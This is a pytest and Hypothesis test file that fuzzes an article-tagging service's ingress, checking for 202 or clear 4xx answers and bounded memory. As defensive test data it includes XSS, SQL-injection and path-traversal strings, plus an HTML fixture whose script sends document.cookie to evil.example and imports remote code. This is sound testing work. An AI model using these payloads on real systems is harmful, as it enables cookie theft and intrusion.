"""Hostile input at the ingress: whatever a client sends, the answer is a 202 or a clear 4xx,
never a 5xx, and what is accepted is tagged safely, within bounded memory and time.

Everything goes over real HTTP to the running ingress (or a raw socket where httpx would not
send the lie we need), against a real worker. Hypothesis generates the bulk: arbitrary bytes,
and valid events with fields replaced by hostile values. Explicit cases cover what fuzzing
will not stumble on: bodies over the limit (with a true, a lying or no Content-Length),
100,000-deep nesting, invalid UTF-8, script-laden HTML and million-character words.
"""

from __future__ import annotations

import itertools
import json
import re
import secrets
import select
import socket
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ..stack import Stack

ARMS = ("Warsaw signs contract for South Korean tanks",
        ("Poland signed a contract on Friday for 180 K2 battle tanks from South Korea's Hyundai Rotem. "
         "Seoul has become one of Warsaw's main weapons suppliers, selling tanks, howitzers and fighter jets. "
         "Polish officials said the arms deal includes ammunition and training."))
MAX_BODY_BYTES = 2 * 1024 * 1024  # the default the Stack runs with
CALLBACK_WITHIN = 30.0  # seconds a million-character article may take from 202 to its callback
WORKER_GROWTH_LIMIT_MIB = 300  # peak RSS a million-character article may add to a worker process
INGRESS_GROWTH_LIMIT_MIB = 64  # peak RSS an endless request body may add to the ingress
_RUN = secrets.token_hex(3)
_SEQUENCE = itertools.count()


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    running = Stack(tmp_path_factory.mktemp("hostile")).start()
    yield running
    running.stop()


@pytest.fixture(scope="module")
def observed(figures):
    """What the scenario saw, recorded as its figures once every test has run (or failed)."""
    seen = {"examples": 0, "accepted": 0, "refused_4xx": 0, "server_errors": 0}
    yield seen
    figures.record("hostile-input", **seen)


def unique(kind: str) -> str:
    return f"{kind}-{_RUN}{next(_SEQUENCE):06d}"


def valid_event(body: str = ARMS[1], title: str = ARMS[0]) -> dict:
    return {"id": unique("evt"), "type": "article.published", "occurred_at": "2026-11-22T10:00:00Z",
            "article": {"id": unique("art"), "revision": 1, "title": title, "body": body}}


# Hypothesis must draw the same way for the same choices, so its documents carry these
# placeholders (as long as a unique id) and get unique ids only when posted.
EVENT_PLACEHOLDER, ARTICLE_PLACEHOLDER = "evt-" + "0" * 12, "art-" + "0" * 12


def template_event() -> dict:
    return {**valid_event(), "id": EVENT_PLACEHOLDER, "article": {**valid_event()["article"], "id": ARTICLE_PLACEHOLDER}}


def with_unique_ids(raw: bytes) -> bytes:
    """Accepted events must not collide with each other (nor with a shrinking rerun)."""
    return raw.replace(EVENT_PLACEHOLDER.encode(), unique("evt").encode()).replace(ARTICLE_PLACEHOLDER.encode(), unique("art").encode())


def check_answer(answer, observed: dict) -> None:
    """The property: a 202 naming the event, or a 4xx whose JSON says what is wrong."""
    observed["examples"] += 1
    status = answer.status_code
    if status >= 500:
        observed["server_errors"] += 1
    assert status == 202 or 400 <= status < 500, f"{status}: {answer.text[:500]}"
    if status == 202:
        observed["accepted"] += 1
        assert answer.json()["status"] in ("queued", "duplicate")
        return
    observed["refused_4xx"] += 1
    body = answer.json()
    assert isinstance(body.get("error"), str) and body["error"], body


# --- JSON with values json.dumps will not write: sent as raw fragments ---------------------------

class Raw(str):
    """A JSON fragment sent as it is: 5,000-digit numbers, 1e999, deep nesting."""


def to_json(value) -> str:
    if isinstance(value, Raw):
        return str(value)
    if isinstance(value, dict):
        return "{" + ", ".join(f"{json.dumps(key)}: {to_json(item)}" for key, item in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(map(to_json, value)) + "]"
    return json.dumps(value)  # lone surrogates leave as "\ud800" escapes, NaN as NaN


MISSING = object()
TRICKY = ["\x00", "\ud800", "\udfff", "\udfff\ud800", "\u202e", "\u202d", "\u200f", "\u200e", "\u2066", "\u2069",
          "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u2028", "\u0085", "\ufffd", "\U0001f4a9", "e\u0301",
          "\t", "\r\n", "<script>alert(1)</script>", "<p>", "&amp;", "&#0;", "'; DROP TABLE x; --", "{{7*7}}",
          "%s%n", "../../etc/passwd", "Poland", "Україна", "مصر", "\\", '"']
hostile_text = st.one_of(
    st.text(st.characters(exclude_categories=()), max_size=200),  # every code point, surrogates included
    st.lists(st.sampled_from(TRICKY) | st.text(max_size=6), max_size=16).map("".join),
    st.tuples(st.sampled_from(["x", "Poland ", "\u202e", "\u200b", "-", "é", "<b>"]), st.integers(100, 40_000)).map(lambda t: t[0] * t[1]),
)
hostile_number = st.one_of(
    st.integers(),
    st.integers(min_value=2**53 - 2, max_value=2**64 + 2),
    st.integers(min_value=-(2**63), max_value=-1),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([Raw("1" * 5000), Raw("-" + "9" * 4400), Raw("1e999"), Raw("-1e999"), Raw("-0"), Raw("1.0"),
                     Raw("1E400"), Raw("0.000000000000000000000000001")]),
)
hostile_scalar = st.one_of(st.none(), st.booleans(), hostile_number, hostile_text)
hostile_value = st.one_of(
    hostile_scalar,
    st.recursive(hostile_scalar, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3), max_leaves=8),
    st.integers(1, 150_000).map(lambda depth: Raw("[" * depth + "]" * depth)),
    st.integers(1, 150_000).map(lambda depth: Raw('{"a": ' * depth + "1" + "}" * depth)),
)
# plausible values too, so that many hostile events get through validation and reach the worker
plausible = {
    "type": st.sampled_from(["article.published", "article.updated", "article.unpublished", "ARTICLE.PUBLISHED", "article.published "]),
    "occurred_at": st.sampled_from(["2026-11-22T10:00:00Z", "2026-11-22", "2026-11-22T10:00:00+14:00", "9999-12-31T23:59:59.999999Z",
                                    "0001-01-01T00:00:00", "2026-13-45T99:00:00Z", "2026-11-22T10:00:00Z\x00", "\u0662\u0660\u0662\u0666-11-22"]),
    "article.revision": st.one_of(st.integers(0, 10), st.integers(2**53 - 2, 2**53 + 2), st.integers(min_value=2**62)),
}
FIELDS = ["id", "type", "occurred_at", "article", "article.id", "article.revision", "article.title", "article.body",
          "article.url", "article.language"]


def field_value(field: str):
    """Mostly a value of the right kind (so the event may pass and reach the worker), else anything."""
    return st.integers(0, 9).flatmap(lambda roll: plausible.get(field, hostile_text) if roll < 6 else hostile_value if roll < 9 else st.just(MISSING))


@st.composite
def hostile_events(draw) -> bytes:
    """A valid event with some fields replaced, removed or added."""
    event = template_event()
    for field in draw(st.lists(st.sampled_from(FIELDS), unique=True, max_size=3)):
        value = draw(field_value(field))
        target = event["article"] if field.startswith("article.") and isinstance(event.get("article"), dict) else event
        key = field.removeprefix("article.")
        if field.startswith("article.") and target is event:
            continue  # the article itself was replaced
        if value is MISSING:
            target.pop(key, None)
        else:
            target[key] = value
    event.update(draw(st.dictionaries(st.text(max_size=10), hostile_value, max_size=2)))
    if isinstance(event.get("article"), dict):
        event["article"].update(draw(st.dictionaries(st.text(max_size=10), hostile_value, max_size=2)))
    return to_json(event).encode()


@st.composite
def damaged_events(draw) -> bytes:
    """A valid event's bytes cut short, with bytes flipped or foreign bytes spliced in."""
    raw = bytearray(json.dumps(template_event()).encode())
    for _ in range(draw(st.integers(1, 4))):
        position = draw(st.integers(0, len(raw)))
        action = draw(st.sampled_from(["cut", "flip", "splice"]))
        if action == "cut":
            del raw[position:]
        elif action == "flip" and position < len(raw):
            raw[position] ^= draw(st.integers(1, 255))
        else:
            raw[position:position] = draw(st.binary(min_size=1, max_size=8) | st.sampled_from([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x00", b'"', b"{"]))
    return bytes(raw)


def fuzz_settings(scale):
    return settings(max_examples=scale.pick(150, 2000), deadline=None, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])


def test_arbitrary_bytes_get_a_202_or_a_clear_4xx(stack, scale, observed):
    @fuzz_settings(scale)
    @given(st.one_of(st.binary(max_size=4096), damaged_events()))
    def post(raw):
        check_answer(stack.post_raw(with_unique_ids(raw)), observed)

    post()


def test_events_with_hostile_fields_get_a_202_or_a_clear_4xx(stack, scale, observed):
    @fuzz_settings(scale)
    @given(hostile_events())
    def post(raw):
        check_answer(stack.post_raw(with_unique_ids(raw)), observed)

    post()


# --- the editors' endpoints: previews (200) and feedback (202), same property --------------------

FEEDBACK_PLACEHOLDER = "fb-" + "0" * 12


def template_feedback() -> dict:
    return {"id": FEEDBACK_PLACEHOLDER, "article": {"id": ARTICLE_PLACEHOLDER, "revision": 1}, "model_version": "m",
            "decisions": [{"kind": "topic", "tag": "sanctions", "decision": "rejected", "editor": "u1"},
                          {"kind": "region", "tag": "FR", "decision": "added", "editor": "u1", "score": 0.4}]}


plausible_decision = {"kind": st.sampled_from(["topic", "region", "Topic", "person", ""]),
                      "tag": st.sampled_from(["sanctions", "arms-deals", "FR", "UA", "fr", "XX", "ZZZ", "sanctions "]),
                      "decision": st.sampled_from(["accepted", "rejected", "added", "ACCEPTED", "removed"]),
                      "editor": hostile_text, "score": hostile_number}


@st.composite
def hostile_feedback(draw) -> bytes:
    """A valid feedback with fields of the body, its article or its decisions replaced or removed."""
    feedback = template_feedback()
    for field in draw(st.lists(st.sampled_from(["id", "article", "article.id", "article.revision", "model_version", "decisions"]),
                               unique=True, max_size=2)):
        value = draw(field_value(field))
        target = feedback["article"] if field.startswith("article.") and isinstance(feedback.get("article"), dict) else feedback
        if field.startswith("article.") and target is feedback:
            continue
        if value is MISSING:
            target.pop(field.removeprefix("article."), None)
        else:
            target[field.removeprefix("article.")] = value
    if isinstance(feedback.get("decisions"), list):
        for decision in feedback["decisions"]:
            if isinstance(decision, dict):
                for key in draw(st.lists(st.sampled_from(sorted(plausible_decision)), unique=True, max_size=2)):
                    roll = draw(st.integers(0, 9))
                    if roll < 6:
                        decision[key] = draw(plausible_decision[key])
                    elif roll < 9:
                        decision[key] = draw(hostile_value)
                    else:
                        decision.pop(key, None)
        feedback["decisions"] += draw(st.lists(hostile_value, max_size=2))
    return to_json(feedback).encode()


@st.composite
def hostile_previews(draw) -> bytes:
    """An event's hostile article (or whatever replaced it), sent for a preview."""
    article = template_event()["article"]
    for field in draw(st.lists(st.sampled_from([f for f in FIELDS if f.startswith("article.")]), unique=True, max_size=3)):
        value = draw(field_value(field))
        if value is MISSING:
            article.pop(field.removeprefix("article."), None)
        else:
            article[field.removeprefix("article.")] = value
    body = {"article": article} if draw(st.integers(0, 9)) else {"article": draw(hostile_value)}
    return to_json(body).encode()


def check_editor_answer(answer, observed: dict, ok: int) -> None:
    """A preview's 200 with tags or a feedback's 202, a 429 for a busy preview, or a clear 4xx."""
    observed["examples"] += 1
    status = answer.status_code
    if status >= 500:
        observed["server_errors"] += 1
    assert status == ok or 400 <= status < 500, f"{status}: {answer.text[:500]}"
    body = answer.json()
    if status == ok:
        observed["accepted"] += 1
        assert ("topics" in body and "regions" in body) if ok == 200 else body["status"] in ("stored", "duplicate")
        return
    observed["refused_4xx"] += 1
    assert isinstance(body.get("error"), str) and body["error"], body


def test_feedback_with_hostile_fields_gets_a_202_or_a_clear_4xx(stack, scale, observed):
    @fuzz_settings(scale)
    @given(st.one_of(hostile_feedback(), st.binary(max_size=2048)))
    def post(raw):
        raw = raw.replace(FEEDBACK_PLACEHOLDER.encode(), unique("fb").encode())
        check_editor_answer(stack.post_raw(with_unique_ids(raw), path="/v1/feedback"), observed, ok=202)

    post()


def test_previews_with_hostile_articles_get_a_200_or_a_clear_4xx(stack, scale, observed):
    @fuzz_settings(scale)
    @given(st.one_of(hostile_previews(), st.binary(max_size=2048)))
    def post(raw):
        check_editor_answer(stack.post_raw(with_unique_ids(raw), path="/v1/tag"), observed, ok=200)

    post()


@pytest.mark.parametrize("field, value, status", [
    ("id", "\ud800", 422),
    ("id", "evt-\udfff\ud800", 422),
    ("article.id", "\udc00", 422),
    ("article.title", "Warsaw \ud83d tanks", 422),
    ("article.body", ARMS[1] + "\ud800", 422),
    ("article.url", "https://example.com/\udfff", 422),
    ("article.language", "\ud800", 422),
    ("occurred_at", "2026-11-22T10:00:00Z\ud800", 422),
    ("article.revision", Raw("9" * 5000), 400),
    ("article.revision", Raw("9" * 4000), 422),
    ("article.revision", 2**64, 422),
    ("article.revision", 2**53, 422),
    ("article.id", Raw("9" * 4000), 422),
    ("article.id", Raw("-" + "9" * 5000), 400),
], ids=["lone-high-surrogate-id", "reversed-pair-id", "surrogate-article-id", "half-emoji-title", "surrogate-body", "surrogate-url",
        "surrogate-language", "surrogate-timestamp", "5000-digit-revision", "4000-digit-revision", "revision-2**64",
        "revision-2**53", "4000-digit-article-id", "5000-digit-article-id"])
def test_values_no_queue_or_worker_can_hold_get_a_clear_4xx(stack, observed, field, value, status):
    """Defects this scenario found, kept as cases: escaped lone surrogates (Redis and the tagger
    refuse them: a 500, or a 202 for an event the worker then drops), integers past Python's
    4,300-digit limit (a 500), and revisions past what the ledger's Lua compares exactly (2**53)."""
    event = valid_event()
    target = event["article"] if field.startswith("article.") else event
    target[field.removeprefix("article.")] = value
    check_answer(answer := stack.post_raw(to_json(event).encode()), observed)
    assert answer.status_code == status, answer.text
    if status == 422:
        assert answer.json()["field"] == field


@pytest.mark.parametrize("field, value", [
    ("id", "evt-\x00-\u202e-\u200b"),
    ("article.id", "\u202eart\x00"),
    ("article.id", -5),
    ("article.revision", 2**53 - 1),
    ("article.title", "\u2066\u202eسلام\u2069 \U0001f4a9 \ufeff"),
    ("article.body", "\x00" * 1000 + ARMS[1]),
    ("article.body", "\u202e" + ARMS[1] + "\u200f\u200b\u2060\u00ad"),
], ids=["nul-rtl-zero-width-id", "rtl-nul-article-id", "negative-article-id", "largest-revision", "bidi-title", "nul-body", "bidi-body"])
def test_odd_but_valid_values_are_tagged(stack, observed, field, value):
    event = valid_event()
    target = event["article"] if field.startswith("article.") else event
    target[field.removeprefix("article.")] = value
    check_answer(answer := stack.post_raw(to_json(event).encode()), observed)
    assert answer.status_code == 202, answer.text
    (callback,) = stack.cms.wait_for(event["article"]["id"], timeout=CALLBACK_WITHIN)
    assert callback["payload"]["article"] == {"id": event["article"]["id"], "revision": event["article"]["revision"]}
    assert callback["payload"]["event_id"] == event["id"]


# --- explicit cases ---------------------------------------------------------------------------------

def post_through_socket(stack, head: str, body_chunks, *, give_up_after: int) -> tuple[int | None, bytes, int]:
    """Send a request head, then body chunks until the server answers or `give_up_after` bytes
    are out; for lies httpx will not tell. Returns (status or None, answer bytes, bytes sent)."""
    sent, answer = 0, b""
    with socket.create_connection(("127.0.0.1", stack.port), timeout=10) as sock:
        sock.sendall(head.encode("latin-1"))
        sock.setblocking(False)
        pending = b""
        chunks = iter(body_chunks)
        while sent < give_up_after:
            if not pending:
                pending = next(chunks, b"")
                if not pending:
                    break
            readable, writable, _ = select.select([sock], [sock], [], 10)
            if readable:
                break  # the server answered (or closed) before the body was done
            if not writable:
                raise AssertionError(f"the ingress neither reads nor answers after {sent:,} body bytes")
            try:
                count = sock.send(pending)
            except (BrokenPipeError, ConnectionResetError):
                break
            sent, pending = sent + count, pending[count:]
        sock.setblocking(True)
        deadline = time.monotonic() + 10
        try:
            while b"\r\n\r\n" not in answer or len(answer) < _answer_length(answer):
                if time.monotonic() > deadline:
                    break
                data = sock.recv(65536)
                if not data:
                    break
                answer += data
        except (ConnectionResetError, TimeoutError):
            pass
    match = re.match(rb"HTTP/1\.[01] (\d{3})", answer)
    return (int(match.group(1)) if match else None), answer, sent


def _answer_length(answer: bytes) -> int:
    head, _, _ = answer.partition(b"\r\n\r\n")
    found = re.search(rb"(?i)\r\ncontent-length:\s*(\d+)", head)
    return len(head) + 4 + (int(found.group(1)) if found else 0)


def answer_json(answer: bytes) -> dict:
    """The first answer's JSON (uvicorn may answer the bytes after a lying length as a second request)."""
    return json.loads(answer[answer.index(b"\r\n\r\n") + 4 : _answer_length(answer)])


def request_head(stack, extra: str) -> str:
    return (f"POST /v1/events HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: Bearer {stack.token}\r\n"
            f"content-type: application/json\r\n{extra}\r\n")


def test_a_body_over_the_limit_gets_413(stack, observed):
    raw = json.dumps(valid_event(body="x" * (MAX_BODY_BYTES + 1))).encode()
    check_answer(answer := stack.post_raw(raw), observed)
    assert answer.status_code == 413 and answer.json()["field"] == "body"


def test_a_declared_length_over_the_limit_is_refused_before_any_body_is_read(stack, observed):
    status, answer, _ = post_through_socket(stack, request_head(stack, f"content-length: {50 * MAX_BODY_BYTES}\r\n"), [], give_up_after=0)
    observed["examples"] += 1
    assert status == 413, answer[:300]
    assert answer_json(answer)["error"]


def test_a_chunked_body_over_the_limit_gets_413(stack, observed):
    """No Content-Length (httpx sends an iterator chunked): the ingress counts as it reads."""
    def chunks():
        for _ in range(3 * MAX_BODY_BYTES // 65536):
            yield b"x" * 65536

    answer = stack.http.post("/v1/events", content=chunks(), headers={"authorization": f"Bearer {stack.token}", "content-type": "application/json"})
    check_answer(answer, observed)
    assert answer.status_code == 413


def test_an_endless_chunked_body_is_cut_off_in_bounded_memory(stack, observed):
    """A client that never stops sending: the ingress answers 413 once past the limit and does
    not keep reading (what reaches it past the limit is what the socket buffers held)."""
    before = peak_rss_mib(stack.ingress.pid)
    chunk = b"%x\r\n%s\r\n" % (65536, b"x" * 65536)
    status, answer, sent = post_through_socket(stack, request_head(stack, "transfer-encoding: chunked\r\n"), itertools.repeat(chunk),
                                               give_up_after=256 * 1024 * 1024)
    observed["examples"] += 1
    observed["endless_body_bytes_sent_before_413"] = sent
    observed["ingress_peak_rss_mib"] = round(peak_rss_mib(stack.ingress.pid), 1)
    observed["ingress_peak_rss_growth_mib"] = round(max(0.0, observed["ingress_peak_rss_mib"] - before), 1)
    assert status == 413, answer[:300]
    assert sent < MAX_BODY_BYTES + 32 * 1024 * 1024
    assert observed["ingress_peak_rss_growth_mib"] < INGRESS_GROWTH_LIMIT_MIB


def test_a_lying_small_content_length_reads_only_what_was_declared(stack, observed):
    """The first 100 bytes are cut-off JSON (the ingress's 400), and what follows them is no
    HTTP request (the HTTP server's own 400, which may come first and close the connection)."""
    raw = json.dumps(valid_event(body="x" * (3 * MAX_BODY_BYTES))).encode()
    status, answer, _ = post_through_socket(stack, request_head(stack, "content-length: 100\r\n"), [raw], give_up_after=len(raw))
    observed["examples"] += 1
    assert status == 400, answer[:300]
    if b"application/json" in answer.partition(b"\r\n\r\n")[0]:
        assert answer_json(answer)["error"]


def test_a_declared_length_never_sent_does_not_break_the_ingress(stack, observed):
    """The client promises a megabyte, sends ten bytes and stops writing: no answer can reach it
    but the ingress must not crash or log a server error for it."""
    with socket.create_connection(("127.0.0.1", stack.port), timeout=10) as sock:
        sock.sendall((request_head(stack, "content-length: 1000000\r\n") + '{"id": "e"').encode())
        sock.shutdown(socket.SHUT_WR)
        sock.recv(65536)
    observed["examples"] += 1
    time.sleep(0.5)  # the ingress notices the disconnect while it waits for the rest of the body
    assert stack.http.get("/healthz").status_code == 200
    assert "Traceback" not in (stack.tmp / "ingress.log").read_text(errors="replace")


@pytest.mark.parametrize("raw, field", [
    (b"[" * 100_000, None),
    (b'{"a": ' * 100_000 + b"1" + b"}" * 100_000, None),
    (b"[" * 100_000 + b"]" * 100_000, None),
], ids=["unclosed-arrays", "closed-objects", "closed-arrays"])
def test_json_nested_100000_deep_gets_400(stack, observed, raw, field):
    check_answer(answer := stack.post_raw(raw), observed)
    assert answer.status_code == 400


@pytest.mark.parametrize("raw", [
    b'{"id": "e", "body": "caf\xe9"}',
    json.dumps(valid_event()).encode().replace(b"Poland", b"Pol\xc3\x28and"),
    b"\xef\xbb\xbf" + json.dumps(valid_event()).encode()[:-1] + b"\xff",
    json.dumps(valid_event()).encode("utf-16"),
    b'{"id": "\xed\xa0\x80"}',  # a surrogate encoded as UTF-8: not valid UTF-8
], ids=["latin-1", "bad-continuation", "bom-and-ff", "utf-16", "encoded-surrogate"])
def test_invalid_utf8_gets_400(stack, observed, raw):
    check_answer(answer := stack.post_raw(raw), observed)
    assert answer.status_code == 400


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", None])
def test_a_wrong_content_type_is_judged_by_the_body(stack, observed, content_type):
    """The ingress reads the body as JSON whatever it is labelled (or answers 415): never a 5xx."""
    headers = {"content-type": content_type} if content_type else {}
    client_headers = {"authorization": f"Bearer {stack.token}", **headers}
    answer = stack.http.post("/v1/events", content=json.dumps(valid_event()).encode(), headers=client_headers)
    check_answer(answer, observed)
    assert answer.status_code in (202, 415)


SCRIPTED = f"""<!doctype html><html><head><style>.lead::before {{ content: "Germany Berlin Bundestag"; }}</style>
<script>var leak = "France Paris Macron Elysee"; fetch("https://evil.example/?c=" + document.cookie);</script></head>
<body><h1>{ARMS[0]}</h1><p class="lead">{ARMS[1]}</p>
<img src="x" onerror="alert('Japan Tokyo Kishida')"><iframe src="javascript:alert('Brazil')">Brazil Brasilia Lula</iframe>
<p onmouseover="steal('Canada Ottawa')">The tanks will be delivered from 2025, the ministry said on Friday.</p>
<script type="module">import("https://evil.example/Mexico.js")</script><noscript>India New Delhi Modi</noscript>
<svg onload="alert('Egypt Cairo')"><script>alert("Nigeria Lagos")</script></svg></body></html>"""
SCRIPT_ONLY = ("script", "alert", "onerror", "onload", "onmouseover", "cookie", "evil", "javascript", "germany", "berlin", "france",
               "paris", "macron", "japan", "tokyo", "brazil", "canada", "mexico", "india", "egypt", "nigeria")


def test_html_with_scripts_is_tagged_from_the_story_only(stack, observed):
    event = valid_event(body=SCRIPTED)
    check_answer(answer := stack.post_raw(json.dumps(event).encode()), observed)
    assert answer.status_code == 202
    (callback,) = stack.cms.wait_for(event["article"]["id"], timeout=CALLBACK_WITHIN)
    payload = callback["payload"]
    assert "arms-deals" in [t["tag"] for t in payload["topics"]]
    assert {r["code"] for r in payload["regions"]} <= {"PL", "KR"} and "PL" in {r["code"] for r in payload["regions"]}
    tags = json.dumps({key: payload[key] for key in ("topics", "regions", "suggested")}).lower()
    assert not [word for word in SCRIPT_ONLY if word in tags], tags
    assert not [word for word in SCRIPT_ONLY if word in callback["raw"].decode().lower()]


def million_char_word() -> str:
    return ("Polandtankscontract" * 60_000)[:1_000_000]


@pytest.mark.parametrize("case", ["alone", "inside-text", "accented", "open-tags"])
def test_a_million_character_word_is_tagged_in_bounded_time_and_memory(stack, observed, case):
    body = {
        "alone": million_char_word(),
        "inside-text": f"{ARMS[1]} {million_char_word()} The first tanks arrive next year, officials said.",
        "accented": f"{ARMS[1]} {'é' * 1_000_000} The first tanks arrive next year.",  # 2 MB of UTF-8
        "open-tags": f"<p>{ARMS[1]}</p>" + "<p>" * 333_333,
    }[case]
    event = valid_event(body=body)
    before = worker_peak_rss_mib(stack)
    started = time.time()  # the CMS stub stamps callbacks with time.time()
    answer = stack.post_raw(json.dumps(event, ensure_ascii=False).encode())
    check_answer(answer, observed)
    if answer.status_code != 202:
        return  # a clear refusal is as good as safe tagging
    (callback,) = stack.cms.wait_for(event["article"]["id"], timeout=CALLBACK_WITHIN)
    took = callback["at"] - started
    growth = worker_peak_rss_mib(stack) - before
    observed[f"million_char_{case}_seconds_to_callback"] = round(took, 2)
    observed[f"million_char_{case}_worker_peak_rss_mib"] = round(worker_peak_rss_mib(stack), 1)
    observed[f"million_char_{case}_worker_peak_growth_mib"] = round(growth, 1)
    assert growth < WORKER_GROWTH_LIMIT_MIB
    if case != "alone":
        assert "PL" in {r["code"] for r in callback["payload"]["regions"]}  # the story around the word still counts
    assert len(callback["raw"]) < 20_000  # evidence is short phrases, never the word itself


# --- afterwards -----------------------------------------------------------------------------------

def test_the_stack_is_healthy_afterwards(stack, observed):
    """Still up, every accepted event tagged (none failed as poison), and a normal event goes through."""
    assert stack.http.get("/healthz").status_code == 200
    assert all(worker.poll() is None for worker in stack.workers)
    drained_by = time.monotonic() + 120
    while stack.queue_length() and time.monotonic() < drained_by:
        time.sleep(0.2)
    event = valid_event()
    assert stack.post_raw(json.dumps(event).encode()).status_code == 202
    stack.cms.wait_for(event["article"]["id"], timeout=CALLBACK_WITHIN)
    counters, _ = stack.ledger.counters()
    observed["events_queued"] = counters.get("events_received", 0)
    observed["tasks_failed"] = counters.get("tasks_failed", 0)
    assert counters.get("tasks_failed", 0) == 0, failures(stack)
    assert counters.get("tasks_done", 0) + counters.get("events_unpublished", 0) == counters.get("events_received", 0)
    assert "Traceback" not in (stack.tmp / "ingress.log").read_text(errors="replace")
    assert "Traceback" not in (stack.tmp / "worker-0.log").read_text(errors="replace")


def failures(stack) -> list[str]:
    return [stack.redis.get(key).decode(errors="replace") for key in stack.redis.scan_iter(stack.ledger.key("failed", "*"))]


# --- process memory ---------------------------------------------------------------------------------

def peak_rss_mib(pid: int) -> float:
    """VmHWM: the most resident memory the process has had since it started."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return 0.0


def process_tree(pid: int) -> list[int]:
    found = [pid]
    for children in Path(f"/proc/{pid}/task").glob("*/children"):
        try:
            listed = children.read_text().split()
        except OSError:
            continue  # the thread ended meanwhile
        for child in listed:
            found += process_tree(int(child))
    return found


def worker_peak_rss_mib(stack) -> float:
    """The largest peak among the worker processes (the parent and its pool children)."""
    return max(peak_rss_mib(pid) for worker in stack.workers for pid in process_tree(worker.pid))
